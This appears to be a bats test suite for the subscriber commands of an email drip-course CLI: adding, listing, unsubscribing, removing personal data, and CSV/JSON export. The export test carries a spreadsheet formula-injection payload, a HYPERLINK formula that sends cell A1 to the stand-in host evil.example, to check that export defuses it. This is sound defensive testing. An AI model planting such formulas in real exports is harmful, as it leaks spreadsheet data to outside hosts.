#!/usr/bin/env bats
# `dripmail subscribers`: list, show, add, unsubscribe, remove, export.

load helpers

setup() { setup_workdir; }
teardown() { teardown_workdir; }

@test "add, list with filters, show with the events behind a status" {
	run dm subscribers add Uma@Example.ORG --name Uma --timezone Asia/Kolkata --list waitlist
	[ "$status" -eq 0 ]
	[ "$output" = "added Uma@example.org (waitlist)" ]
	dm subscribers add vic@example.org --list course
	dm subscribers unsubscribe vic@example.org
	run dm subscribers list --list waitlist
	[ "$output" = "$(printf 'Uma@example.org\tactive\twaitlist\t0\tUma')" ]
	run dm subscribers list --status unsubscribed
	[[ "$output" == "vic@example.org"$'\t'"unsubscribed"* ]]
	[ "${#lines[@]}" -eq 1 ]
	run dm subscribers show VIC@example.org
	[ "$status" -eq 0 ]
	[[ "$output" == *"status: unsubscribed since "*"(unsubscribed by the operator)"* ]]
	[[ "$output" == *"lists: course since"* ]]
	[[ "$output" == *" subscribed source=cli detail=course"* ]]
	[[ "$output" == *" unsubscribed source=cli detail=unsubscribed by the operator"* ]]
	# Unsubscribed stays unsubscribed.
	run dm subscribers add vic@example.org --list course
	[ "$status" -eq 65 ]
	[[ "$output" == *"'vic@example.org' not added: unsubscribed"* ]]
}

@test "add to the course enrols a waitlisted subscriber" {
	dm subscribers add wes@example.org --list waitlist
	run dm subscribers add wes@example.org --list course
	[ "$output" = "updated wes@example.org (course)" ]
	[ "$(sql "SELECT CAST(waitlist_at IS NOT NULL AS INTEGER),
	    CAST(course_at IS NOT NULL AS INTEGER),
	    CAST(next_lesson_at IS NOT NULL AS INTEGER) FROM subscribers")" = "1|1|1" ]
	[ "$(sql "SELECT kind FROM events ORDER BY id" | paste -sd ,)" = \
	    "subscribed,enrolled" ]
}

@test "bad input: address, timezone, status, list, unknown subscriber" {
	run dm subscribers add not-an-address
	[ "$status" -eq 65 ]
	[[ "$output" == *"invalid address 'not-an-address': no '@'"* ]]
	run dm subscribers add x@example.org --timezone Mars/Base
	[ "$status" -eq 64 ]
	run dm subscribers list --status gone
	[ "$status" -eq 64 ]
	run dm subscribers list --list vip
	[ "$status" -eq 64 ]
	run dm subscribers show nobody@example.org
	[ "$status" -eq 65 ]
	[[ "$output" == *"no subscriber 'nobody@example.org'"* ]]
	run dm subscribers unsubscribe nobody@example.org
	[ "$status" -eq 65 ]
	run dm subscribers frob
	[ "$status" -eq 64 ]
	run dm subscribers show
	[ "$status" -eq 64 ]
}

@test "remove deletes personal data; a re-import skips the address" {
	printf 'email,first_name\nxena@example.org,Xena\nyves@example.org,Yves\n' > s.csv
	dm import --list course s.csv
	run dm subscribers remove XENA@example.org
	[ "$status" -eq 0 ]
	[ "$(sql "SELECT count(*) FROM subscribers WHERE email = 'xena@example.org'")" -eq 0 ]
	[ "$(sql "SELECT count(*) FROM events WHERE subscriber_id = 1")" -eq 0 ]
	[ "$(sql "SELECT count(*) FROM events WHERE kind = 'removed'
	    AND subscriber_id IS NULL")" -eq 1 ]
	hash=$(printf '%s' xena@example.org | sha256sum | cut -d' ' -f1)
	[ "$(sql "SELECT reason FROM suppressions WHERE hash = '$hash'")" = removed ]
	# (`! grep` would not fail a bats test: errexit ignores it)
	if db_pg; then
		# PostgreSQL keeps a dead row in its files until a VACUUM, out
		# of reach of every query: none of them may find her.
		if db_dump | grep -q Xena; then false; fi
	else
		if grep -q Xena "$WORK"/dripmail.db*; then false; fi
	fi
	run --separate-stderr dm import --list course --reject-file rej.csv s.csv
	[ "$status" -eq 0 ]
	[ "$output" = "added 0, updated 0, unchanged 1, skipped 1, invalid 0" ]
	[[ "$stderr" == *"s.csv:2: skipped: removed earlier (suppressed)"* ]]
	grep -q '^xena@example.org,Xena,skipped: removed earlier' rej.csv
	run dm subscribers add xena@example.org
	[ "$status" -eq 65 ]
}

@test "export: CSV with formula cells defused, and JSON" {
	dm import --list course "$DATA/import-formulas.csv"
	run dm subscribers export
	[ "$status" -eq 0 ]
	[ "${lines[0]}" = $'email,first_name,timezone,status,lists,signed_up_at,lessons_sent,last_sent_at\r' ]
	[[ "${lines[1]}" == "'=cmd@example.org,\"'=HYPERLINK(\"\"http://evil.example/?x\"\"&A1,\"\"click\"\")\",,active,course,20"* ]]
	[[ "${lines[2]}" == "plus@example.org,'+1+1,,active,course,"* ]]
	[[ "${lines[3]}" == "at@example.org,'@SUM(A1:A2),"* ]]
	[[ "${lines[4]}" == "dash@example.org,'-2+3,"* ]]
	# Every cell a spreadsheet would evaluate starts with a quote.
	dm subscribers export | /usr/bin/python3 -c '
import csv, sys
rows = list(csv.reader(sys.stdin))
bad = [c for r in rows[1:] for c in r if c and c[0] in "=+-@"]
sys.exit(1 if bad or len(rows) != 5 else 0)'
	run dm subscribers export --format json
	[ "$status" -eq 0 ]
	echo "$output" | /usr/bin/python3 -c '
import json, sys
d = json.load(sys.stdin)
assert len(d) == 4 and d[1]["email"] == "plus@example.org"
assert d[1]["first_name"] == "+1+1" and d[1]["lists"] == "course"
assert d[0]["last_sent_at"] is None and d[0]["lessons_sent"] == 0'
	run dm subscribers export --format xml
	[ "$status" -eq 64 ]
}

@test "an export imports back unchanged" {
	dm import --list course "$DATA/import-bom-crlf.csv"
	dm subscribers export > out.csv
	run --separate-stderr dm import --list course out.csv
	[ "$output" = "added 0, updated 0, unchanged 3, skipped 0, invalid 0" ]
}
